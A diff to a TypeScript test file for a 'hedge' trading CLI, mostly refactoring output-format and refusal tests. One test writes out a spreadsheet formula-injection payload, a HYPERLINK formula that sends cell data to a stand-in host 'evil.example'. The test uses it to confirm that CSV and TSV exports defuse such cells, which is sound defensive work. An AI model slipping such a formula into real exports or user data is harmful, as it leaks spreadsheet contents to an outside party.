@@ -5,9 +5,10 @@
 // --query are exit 2; a bad --query is refused before any request.
 import { parse } from 'csv-parse/sync';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
+import { exits, ok as succeeded } from '../support/cli-runs.js';
 import { runHedge, tempDir, type HedgeArgs } from '../support/hedge-cli.js';
 import { FROZEN_KEY } from '../support/keys.js';
-import { apiData, pinnedClockEnv, startSimulator, type Simulator } from '../support/simulator.js';
+import { apiData, pinnedClockEnv, startSimulator, withSimulator, type Simulator } from '../support/simulator.js';
 
 let simulator: Simulator;
 let config: { path: string; remove: () => void };
@@ -141,7 +142,7 @@ afterAll(async () => {
 describe.each(Object.keys(COLUMNS))('%s', (command) => {
   it('json is the data as the API answered; tsv, csv and ndjson carry the same records in the documented columns', async () => {
     const [json, tsv, csv, ndjson, bare] = await Promise.all([
-      ok([command, '--json']),
+      ok(`${command} --json`),
       ok([command]),
       ok(`${command} --format csv`),
       ok(`${command} --format ndjson`),
@@ -174,8 +175,7 @@ describe.each(Object.keys(COLUMNS))('%s', (command) => {
       .trimEnd()
       .split('\n')
       .map((line) => line.split('\t'));
-    expect(tsvRows[0]).toEqual(COLUMNS[command]);
-    expect(tsvRows.slice(1)).toEqual(expected);
+    expect([tsvRows[0], tsvRows.slice(1)]).toEqual([COLUMNS[command], expected]);
     expect(
       bare
         .trimEnd()
@@ -194,11 +194,11 @@ describe.each(Object.keys(COLUMNS))('%s', (command) => {
   it('--fields picks and orders columns in tsv, csv and json; --query reshapes the JSON', async () => {
     const [second, first] = [COLUMNS[command][2], COLUMNS[command][0]];
     const [json, tsv, csv, fieldsJson, query, queryNd] = await Promise.all([
-      ok([command, '--json']),
-      ok([command, '--fields', `${second},${first}`]),
-      ok([command, '--fields', `${second},${first}`, '--format', 'csv', '--no-header']),
-      ok([command, '--fields', `${second},${first}`, '--json']),
-      ok([command, '--query', `[].${first}`]),
+      ok(`${command} --json`),
+      ok(`${command} --fields ${second},${first}`),
+      ok(`${command} --fields ${second},${first} --format csv --no-header`),
+      ok(`${command} --fields ${second},${first} --json`),
+      ok(`${command} --query [].${first}`),
       ok([command, '--query', `[].{a: ${first}}`, '--format', 'ndjson']),
     ]);
     const records = JSON.parse(json);
@@ -211,9 +211,11 @@ describe.each(Object.keys(COLUMNS))('%s', (command) => {
     ).toEqual([[second, first], ...pairs]);
     expect(parse(csv)).toEqual(pairs);
     const picked = JSON.parse(fieldsJson);
-    expect(picked.map((record: any) => Object.keys(record))).toEqual(records.map(() => [second, first]));
-    expect(picked.map((record: any) => [cell(record[second]), cell(record[first])])).toEqual(pairs);
-    expect(JSON.parse(query)).toEqual(records.map((record: any) => record[first]));
+    expect([
+      picked.map((record: any) => Object.keys(record)),
+      picked.map((record: any) => [cell(record[second]), cell(record[first])]),
+      JSON.parse(query),
+    ]).toEqual([records.map(() => [second, first]), pairs, records.map((record: any) => record[first])]);
     expect(
       queryNd
         .trimEnd()
@@ -243,7 +245,7 @@ describe('refusals', () => {
       hedge('positions --query nosuch(@) --json'),
     ]);
     for (const result of [syntax, unknownFunction, asJson]) {
-      expect(result.code).toBe(2);
+      exits(result, 2);
       expect(result.stdout).toBe('');
     }
     // --query makes the data JSON, not the errors: without --json the refusal is one human line.
@@ -266,34 +268,31 @@ describe('refusals', () => {
     const id = JSON.parse(hedges).find((entry: any) => entry.order_tx_hash)!;
     const [one, accountCsv] = await Promise.all([ok(`hedges ${id.id} --format csv`), ok('account --format csv')]);
     const [header, row, ...more] = parse(one) as string[][];
-    expect(more).toEqual([]);
-    expect(header).toEqual(COLUMNS.hedges);
+    expect([more, header]).toEqual([[], COLUMNS.hedges]);
     expect(row[header.indexOf('order_tx_hash')]).toBe(id.order_tx_hash);
     const [accountHeader, accountRow] = parse(accountCsv) as string[][];
     const expected = JSON.parse(account);
-    expect(accountHeader.slice(0, 2)).toEqual(['balance_usdc', 'margin_in_use_usdc']);
-    expect(accountRow).toEqual(accountHeader.map((key) => cell(expected[key])));
+    expect([accountHeader.slice(0, 2), accountRow]).toEqual([
+      ['balance_usdc', 'margin_in_use_usdc'],
+      accountHeader.map((key) => cell(expected[key])),
+    ]);
   });
 });
 
 describe('cells a spreadsheet would run as formulas (a deal reference is the user’s text)', () => {
   it('TSV defuses them exactly as CSV does: a leading quote, numbers left alone', async () => {
     const formula = '=HYPERLINK("http://evil.example/?"&A1,"x")';
-    const own = await startSimulator();
-    try {
-      const opened = await own.hedge(`open USDTNGN sell 1000 --tenor 3 --ref ${formula} --json`);
-      expect(opened.code, opened.stderr).toBe(0);
+    await withSimulator({}, async (own) => {
+      succeeded(await own.hedge(`open USDTNGN sell 1000 --tenor 3 --ref ${formula} --json`));
       expect(own.hedges().map((hedge) => hedge.clientReference)).toEqual([formula]);
-      const tsv = await own.hedge('hedges --format tsv --fields client_reference,notional_usd');
-      const csv = await own.hedge('hedges --format csv --fields client_reference,notional_usd');
-      expect(tsv.code, tsv.stderr).toBe(0);
+      const fields = '--fields client_reference,notional_usd';
+      const tsv = succeeded(await own.hedge(`hedges --format tsv ${fields}`));
+      const csv = succeeded(await own.hedge(`hedges --format csv ${fields}`));
       expect(tsv.stdout.trimEnd().split('\n')).toEqual(['client_reference\tnotional_usd', `'${formula}\t1000`]);
       expect(parse(csv.stdout)).toEqual([
         ['client_reference', 'notional_usd'],
         [`'${formula}`, '1000'],
       ]);
-    } finally {
-      await own.close();
-    }
+    });
   });
 });
